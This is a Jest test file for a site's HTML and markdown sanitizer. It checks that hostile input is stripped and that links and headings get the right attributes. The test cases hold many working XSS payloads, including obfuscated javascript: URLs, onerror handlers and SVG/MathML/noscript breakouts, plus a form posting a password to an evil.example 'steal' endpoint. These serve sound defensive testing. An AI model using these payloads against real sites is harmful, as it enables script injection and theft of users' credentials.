// The HTML/markdown sanitizer, in Node (as the prerender runs it, on a jsdom window): hostile input
// loses everything that could run or restyle the page and keeps its harmless text; links and
// headings get the attributes the site relies on; and a fresh jsdom window gives the same string.
import { JSDOM } from 'jsdom';
import { extractHeadings, headingId } from '../../../../src/content/text';
import {
  createSanitizer,
  isAllowedUrl,
  isExternalUrl,
  markdownToSafeHtml,
  sanitizeHtml,
} from '../../../../src/content/text/sanitize';

const SITE = 'https://www.meridian.example';
const HTML_NS = 'http://www.w3.org/1999/xhtml';
const FORBIDDEN_TAGS = new Set(
  'script style iframe frame frameset object embed applet form input button textarea select option base meta link template svg math noscript'.split(
    ' ',
  ),
);
const URL_ATTRIBUTES = new Set(['href', 'src', 'poster', 'cite', 'action', 'formaction', 'xlink:href', 'data']);

const parse = (html: string) => new JSDOM(`<!DOCTYPE html><body>${html}</body>`).window.document.body;

/** Everything in sanitized output that could run script, load a frame or restyle the page. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const element of Array.from(parse(html).querySelectorAll('*'))) {
    const tag = element.localName;
    if (FORBIDDEN_TAGS.has(tag) || element.namespaceURI !== HTML_NS) found.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${tag}[${name}]`);
      // eslint-disable-next-line no-control-regex
      const compact = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      const imageData = tag === 'img' && name === 'src' && /^data:image\/(png|jpeg|gif|webp)[;,]/.test(compact);
      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data):/.test(compact) && !imageData)
        found.push(`${tag}[${name}=${value}]`);
    }
  }
  return found;
}

const textOf = (html: string): string => parse(html).textContent.replace(/\s+/g, ' ').trim();

/** [id, text] of every heading of sanitized output, in order ('' for no id). */
const headingsOf = (html: string): [string, string][] =>
  Array.from(parse(html).querySelectorAll('h1, h2, h3, h4, h5, h6')).map((heading) => [
    heading.id,
    heading.textContent.replace(/\s+/g, ' ').trim(),
  ]);

type Case = [name: string, input: string, kept: string[], gone?: RegExp];

const hostileHtml: Case[] = [
  [
    'script element',
    '<p>before</p><script>window.__xss = 1</script><p>after</p>',
    ['before', 'after'],
    /__xss|script/i,
  ],
  ['img onerror', '<p>pic <img src=x onerror="window.__xss=1"> caption</p>', ['pic', 'caption'], /onerror|__xss/i],
  ['javascript: link', '<a href="javascript:window.__xss=1">click me</a>', ['click me'], /javascript|__xss/i],
  [
    'javascript: links with case, entities, whitespace and controls',
    [
      '<a href="JaVaScRiPt:alert(1)">one</a>',
      '<a href="&#106;&#x61;vascript:alert(1)">two</a>',
      '<a href="java&#x09;script:alert(1)">three</a>',
      '<a href="  &#x20;javascript:alert(1)">four</a>',
      '<a href="javascript&colon;alert(1)">five</a>',
      '<a href="jav&NewLine;ascript:alert(1)">six</a>',
      '<a href="&#1;javascript:alert(1)">seven</a>',
      '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">eight</a>',
    ].join(' '),
    ['one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight'],
    /javascript|alert/i,
  ],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">vb</a>', ['vb'], /vbscript/i],
  [
    'data:text/html link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    ['data link'],
    /data:/i,
  ],
  ['svg with script', '<p>x</p><svg><script>window.__xss=1</script></svg><p>y</p>', ['x', 'y'], /svg|__xss/i],
  ['svg onload', '<svg onload="window.__xss=1"><circle r="1"/></svg><p>after svg</p>', ['after svg'], /<svg|onload/i],
  ['svg in img data URI', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="vector">', [], /data:/i],
  [
    'iframe',
    '<iframe src="https://evil.example" srcdoc="<script>window.__xss=1</script>"></iframe><p>kept</p>',
    ['kept'],
    /iframe|evil|srcdoc/i,
  ],
  [
    'object and embed',
    '<object data="javascript:alert(1)">fallback</object><embed src="https://evil.example/x.swf"><p>kept</p>',
    ['fallback', 'kept'],
    /object|embed|evil/i,
  ],
  [
    'form',
    '<form action="https://evil.example/steal"><label>Password <input name="password" type="password"></label><button formaction="javascript:alert(1)">Send</button></form><p>kept</p>',
    ['Password', 'Send', 'kept'],
    /form|input|action|evil/i,
  ],
  [
    'style element with expression()',
    '<style>body{width:expression(alert(1));background:url("javascript:alert(1)")}</style><p>styled</p>',
    ['styled'],
    /<style|expression|javascript/i,
  ],
  [
    'style attribute',
    '<p style="background:url(javascript:alert(1))">para</p><div style="position:fixed;inset:0">overlay</div>',
    ['para', 'overlay'],
    /style|javascript|fixed/i,
  ],
  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>', [], /math|onerror|__xss/i],
  [
    'MathML link',
    '<p>a</p><math href="javascript:alert(1)"><mi>CLICK</mi></math><p>b</p>',
    ['a', 'b'],
    /math|javascript/i,
  ],
  [
    'base, meta and link',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css"><p>kept</p>',
    ['kept'],
    /base|meta|link|evil/i,
  ],
  [
    'unclosed tags',
    '<p>open <b>bold <a href="javascript:alert(1)">dangling',
    ['open', 'bold', 'dangling'],
    /javascript/i,
  ],
  ['unterminated img', '<p>text</p><img src=x onerror=alert(1)//', ['text'], /onerror/i],
  ['split script tag', '<p>start</p><scr<script>ipt>alert(1)</script><p>end</p>', ['start', 'end'], /<script/i],
  ['nested script tags', '<<script>script>alert(1)<</script>/script><p>kept</p>', ['kept'], /<script/i],
  ['comment tricks', '<!--><img src=x onerror=window.__xss=1>--><p>kept</p>', ['kept'], /onerror|__xss/i],
  [
    'noscript',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>kept</p>',
    ['kept'],
    /onerror/i,
  ],
  [
    'DOM clobbering names and ids',
    '<img name="getElementById" src="/a.png" alt="a"><a id="location" href="/x">x</a><p id="heading-0">fake</p>',
    ['x', 'fake'],
    /name=|id="location"|id="heading-0"/i,
  ],
  [
    'event handlers everywhere',
    '<details open ontoggle="window.__xss=1"><summary onclick="window.__xss=1">More</summary>body</details><video src="/v.mp4" onloadstart="window.__xss=1" controls></video>',
    ['More', 'body'],
    /\son[a-z]+=|__xss/i,
  ],
  ['target and rel from the author', '<a href="/x" target="_blank" rel="opener">x</a>', ['x'], /target|rel=/i],
];

const hostileMarkdown: Case[] = [
  ['javascript: link', 'Text [x](javascript:alert(1)) more', ['Text', 'x', 'more'], /javascript|alert/i],
  ['javascript: link, upper case', '[y](JAVASCRIPT:alert(1))', ['y'], /javascript|alert/i],
  ['javascript: link in angle brackets', '[z](<javascript:alert(1)>)', ['z'], /javascript|alert/i],
  ['javascript: autolink', 'See <javascript:alert(1)> now', ['See', 'now'], /href="javascript/i],
  ['javascript: reference link', 'A [ref][1] link\n\n[1]: javascript:alert(1)', ['A', 'ref', 'link'], /javascript/i],
  ['javascript: image', '![pic](javascript:alert(1)) caption', ['caption'], /javascript/i],
  ['data: link', '[d](data:text/html;base64,PHNjcmlwdD4=)', ['d'], /data:/i],
  [
    'raw HTML script block',
    'Before\n\n<script>window.__xss = 1</script>\n\nAfter',
    ['Before', 'After'],
    /__xss|<script/i,
  ],
  ['inline raw HTML with a handler', 'Hello <img src=x onerror=alert(1)> world', ['Hello', 'world'], /onerror/i],
  [
    'raw HTML iframe and style',
    'Intro\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>\n\nOutro',
    ['Intro', 'Outro'],
    /iframe|style|evil/i,
  ],
  ['raw svg', 'Pic: <svg onload=alert(1)><script>alert(1)</script></svg> done', ['Pic:', 'done'], /svg|alert/i],
  ['style attribute in raw HTML', '<div style="color:red">styled *em*</div>', ['styled'], /style=/i],
];

describe('sanitizeHtml in Node', () => {
  it('runs without a window (the prerender)', () => {
    expect(typeof window).toBe('undefined');
    expect(sanitizeHtml('<p>hello</p>')).toBe('<p>hello</p>');
  });

  it.each(hostileHtml)('%s: nothing dangerous survives, the text around it does', (_name, input, kept, gone) => {
    const output = sanitizeHtml(input, { siteOrigin: SITE });

    expect(dangers(output)).toEqual([]);
    if (gone) expect(output).not.toMatch(gone);
    for (const text of kept) expect(textOf(output)).toContain(text);
  });

  it('keeps harmless article markup', () => {
    const input =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>em</em>, <code>code</code> and <a href="#heading-0">anchor</a>.</p>' +
      '<ul><li>one</li></ul><blockquote cite="https://example.com">quote</blockquote><hr>' +
      '<img src="https://images.example.com/a.png" alt="A" width="10" height="10">';
    const output = sanitizeHtml(input, { siteOrigin: SITE });

    expect(output).toContain('<strong>bold</strong>');
    expect(output).toContain('<a href="#heading-0">anchor</a>');
    expect(output).toContain('<blockquote cite="https://example.com">quote</blockquote>');
    expect(output).toContain(
      '<img src="https://images.example.com/a.png" alt="A" width="10" height="10" loading="lazy" decoding="async">',
    );
  });

  it('allows PNG, JPEG, GIF and WebP data URIs in img src only', () => {
    const output = sanitizeHtml(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="png"><img src="data:image/webp;base64,UklGR" alt="webp">' +
        '<a href="data:image/png;base64,iVBORw0KGgo=">png link</a>',
    );
    const images = Array.from(parse(output).querySelectorAll('img')).map((img) => img.getAttribute('src'));

    expect(images).toEqual(['data:image/png;base64,iVBORw0KGgo=', 'data:image/webp;base64,UklGR']);
    expect(output).toContain('<a>png link</a>');
  });

  it('opens links to other origins in a new tab with rel="noopener noreferrer", and no others', () => {
    const output = sanitizeHtml(
      [
        '<a href="https://other.example/page">other</a>',
        '<a href="//other.example/page">protocol relative</a>',
        '<a href="/\\other.example/page">backslash</a>',
        `<a href="${SITE}/blog">same origin</a>`,
        '<a href="/blog/post">relative</a>',
        '<a href="#heading-1">anchor</a>',
        '<a href="mailto:hello@example.com">mail</a>',
        '<a href="tel:+15550100">phone</a>',
      ].join(' '),
      { siteOrigin: SITE },
    );
    const links = Object.fromEntries(
      Array.from(parse(output).querySelectorAll('a')).map((a) => [
        a.textContent,
        [a.getAttribute('target'), a.getAttribute('rel')],
      ]),
    );

    const external = ['_blank', 'noopener noreferrer'];
    expect(links).toEqual({
      other: external,
      'protocol relative': external,
      backslash: external,
      'same origin': [null, null],
      relative: [null, null],
      anchor: [null, null],
      mail: [null, null],
      phone: [null, null],
    });
  });

  it('treats every absolute http(s) link as external when the site origin is not given', () => {
    expect(sanitizeHtml(`<a href="${SITE}/x">x</a><a href="/y">y</a>`)).toBe(
      `<a href="${SITE}/x" target="_blank" rel="noopener noreferrer">x</a><a href="/y">y</a>`,
    );
  });

  it('makes <pre> and tables keyboard-scrollable and keeps code whitespace', () => {
    const output = sanitizeHtml(
      '<pre><code class="language-ts evil-class">  const a = 1;\n\n    return a;</code></pre>' +
        '<table class="x"><caption>Prices</caption><tr><td>1</td></tr></table><table><tr><td>2</td></tr></table>',
    );

    expect(output).toContain(
      '<pre tabindex="0"><code class="language-ts">  const a = 1;\n\n    return a;</code></pre>',
    );
    expect(output).toContain(
      '<div role="region" tabindex="0" aria-label="Prices" data-scroll-region=""><table><caption>',
    );
    expect(output).toContain(
      '<div role="region" tabindex="0" aria-label="Table 2" data-scroll-region=""><table><tbody>',
    );
  });

  it('numbers headings h1–h6 in document order exactly as extractHeadings does for HTML', () => {
    const html =
      '<h1>Intro</h1><p>x</p><h3>Deep <em>dive</em></h3><h2 id="custom">Second</h2><h5>Small</h5>' +
      '<section><h2>Nested &amp; escaped</h2></section><h6>Last</h6>';
    expect(headingsOf(sanitizeHtml(html))).toEqual(
      extractHeadings(html, 'html').map((heading, index) => [headingId(index), heading.text]),
    );
  });

  it('keeps heading ids in step with the table of contents around headings it counts but cannot show', () => {
    // extractHeadings reads the HTML text, so it also counts headings in comments and attributes.
    const html =
      '<h2>Visible</h2><!-- <h2>Commented out</h2> --><img alt="<h3>In an attribute</h3>" src="/a.png">' +
      '<textarea><h4>In a textarea</h4></textarea><h2>After</h2>';
    const headings = extractHeadings(html, 'html').map((heading) => heading.text);
    const output = sanitizeHtml(html);
    const body = parse(output);

    expect(headings).toEqual(['Visible', 'Commented out', 'In an attribute', 'In a textarea', 'After']);
    expect(headingsOf(output)).toEqual([
      ['heading-0', 'Visible'],
      ['heading-4', 'After'],
    ]);
    expect(body.querySelectorAll('[id]')).toHaveLength(2);
    // The marks that carry the numbering leave no trace.
    expect(output).not.toContain('data-mc-toc-heading');
    expect(body.querySelector('img')?.getAttribute('alt')).toBe('<h3>In an attribute</h3>');
    expect(textOf(output)).toContain('<h4>In a textarea</h4>');
  });

  it('returns plain text for empty and text-only input', () => {
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml('fish & chips')).toBe('fish &amp; chips');
  });
});

describe('markdownToSafeHtml in Node', () => {
  it.each(hostileMarkdown)('%s: nothing dangerous survives, the text around it does', (_name, input, kept, gone) => {
    const output = markdownToSafeHtml(input, { siteOrigin: SITE });

    expect(dangers(output)).toEqual([]);
    if (gone) expect(output).not.toMatch(gone);
    for (const text of kept) expect(textOf(output)).toContain(text);
  });

  it('renders GitHub-flavoured markdown', () => {
    const output = markdownToSafeHtml(
      '**bold** _em_ ~~gone~~ `code`\n\n- [x] done\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nhttps://example.com/auto',
      { siteOrigin: SITE },
    );

    expect(output).toContain('<strong>bold</strong>');
    expect(output).toContain('<em>em</em>');
    expect(output).toContain('<del>gone</del>');
    expect(output).toContain('<code>code</code>');
    expect(output).toContain('<th>a</th>');
    expect(output).toContain(
      '<a href="https://example.com/auto" target="_blank" rel="noopener noreferrer">https://example.com/auto</a>',
    );
    // Task-list checkboxes are form controls: the text stays, the checkbox goes.
    expect(output).not.toContain('<input');
    expect(textOf(output)).toContain('done');
  });

  it('keeps the whitespace of code blocks', () => {
    const code = 'function f() {\n  if (x) {\n\n      return  1;\n  }\n}';
    const output = markdownToSafeHtml(`Intro\n\n\`\`\`js\n${code}\n\`\`\`\n\n    indented  code\n      more`);
    const blocks = Array.from(parse(output).querySelectorAll('pre code')).map((block) => block.textContent);

    expect(blocks).toEqual([`${code}\n`, 'indented  code\n  more\n']);
    expect(output).toContain('<pre tabindex="0"><code class="language-js">');
  });

  it('gives headings the ids of the markdown table of contents, skipping what the TOC does not count', () => {
    const markdown = [
      '# Intro',
      'Text.',
      '## Setup ##',
      'Setext heading\n--------------',
      '```',
      '# not a heading (fenced)',
      '```',
      '### Learn C#',
      '<h2>Raw HTML heading</h2>',
      '> ## Quoted heading',
      '~~~',
      '# counted by the TOC, rendered as code',
      '~~~',
      '#### Deep [link](https://example.com) *em*',
      '## Last',
    ].join('\n\n');
    const toc = extractHeadings(markdown, 'markdown').map((heading) => heading.text);
    const ids = headingsOf(markdownToSafeHtml(markdown));

    expect(toc).toEqual(['Intro', 'Setup', 'Learn C#', 'counted by the TOC, rendered as code', 'Deep link em', 'Last']);
    expect(ids).toEqual([
      ['heading-0', 'Intro'],
      ['heading-1', 'Setup'],
      ['', 'Setext heading'],
      ['heading-2', 'Learn C#'],
      ['', 'Raw HTML heading'],
      ['', 'Quoted heading'],
      ['heading-4', 'Deep link em'],
      ['heading-5', 'Last'],
    ]);
  });

  it('reads Windows line endings like the table of contents does', () => {
    const markdown = '# One\r\n\r\nText\r\n\r\n## Two\r\n';
    expect(extractHeadings(markdown, 'markdown')).toHaveLength(2);
    expect(headingsOf(markdownToSafeHtml(markdown))).toEqual([
      ['heading-0', 'One'],
      ['heading-1', 'Two'],
    ]);
  });
});

describe('URL policy', () => {
  it.each([
    ['https://example.com', true],
    ['http://example.com', true],
    ['mailto:a@example.com', true],
    ['tel:+15550100', true],
    ['/relative/path', true],
    ['relative/path', true],
    ['?query', true],
    ['#anchor', true],
    ['//example.com', true],
    ['javascript:alert(1)', false],
    [' JaVaScRiPt:alert(1)', false],
    ['java\nscript:alert(1)', false],
    ['\u0000javascript:alert(1)', false],
    ['vbscript:msgbox(1)', false],
    ['data:text/html,<p>', false],
    ['data:image/png;base64,AA', false],
    ['ftp://example.com', false],
    ['file:///etc/passwd', false],
  ])('isAllowedUrl(%j) is %s', (url, allowed) => {
    expect(isAllowedUrl(url)).toBe(allowed);
  });

  it('allows only raster image data URIs, and only when asked', () => {
    expect(isAllowedUrl('data:image/png;base64,AA', { allowImageData: true })).toBe(true);
    expect(isAllowedUrl('data:image/jpeg;base64,AA', { allowImageData: true })).toBe(true);
    expect(isAllowedUrl('data:image/svg+xml;base64,AA', { allowImageData: true })).toBe(false);
  });

  it('tells external links from the site’s own', () => {
    expect(isExternalUrl('https://other.example/', SITE)).toBe(true);
    expect(isExternalUrl(`${SITE}/blog`, SITE)).toBe(false);
    expect(isExternalUrl('/blog', SITE)).toBe(false);
    expect(isExternalUrl('mailto:a@example.com', SITE)).toBe(false);
    expect(isExternalUrl('//other.example', SITE)).toBe(true);
  });
});

describe('the same output everywhere', () => {
  const samples = [
    ...hostileHtml.map(([, input]) => input),
    '<h1>A</h1><table><tr><th>x</th></tr></table><pre>  keep  </pre><a href="https://x.example">x</a>',
  ];
  const markdownSamples = [
    ...hostileMarkdown.map(([, input]) => input),
    '# A\n\n## B\n\n| a |\n|---|\n| 1 |\n\n```\n  code\n```',
  ];

  it('gives the same string on a fresh jsdom window as on the shared one', () => {
    const fresh = createSanitizer(new JSDOM('<!DOCTYPE html>').window);
    for (const input of samples)
      expect(fresh.sanitizeHtml(input, { siteOrigin: SITE })).toBe(sanitizeHtml(input, { siteOrigin: SITE }));
    for (const input of markdownSamples)
      expect(fresh.markdownToSafeHtml(input, { siteOrigin: SITE })).toBe(
        markdownToSafeHtml(input, { siteOrigin: SITE }),
      );
  });

  it('installs its hooks once per window: repeated calls give the same string', () => {
    const window = new JSDOM('').window;
    expect(createSanitizer(window)).toBe(createSanitizer(window));
    const input = '<a href="https://x.example">x</a><h2>h</h2><pre>p</pre>';
    const first = sanitizeHtml(input);

    expect(sanitizeHtml(input)).toBe(first);
    expect(first).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a><h2 id="heading-0">h</h2><pre tabindex="0">p</pre>',
    );
  });

  it('is idempotent on its own output for content without tables', () => {
    const once = sanitizeHtml('<h2>T</h2><p><a href="https://x.example">x</a></p><pre>a</pre>');
    expect(sanitizeHtml(once)).toBe(once);
  });
});
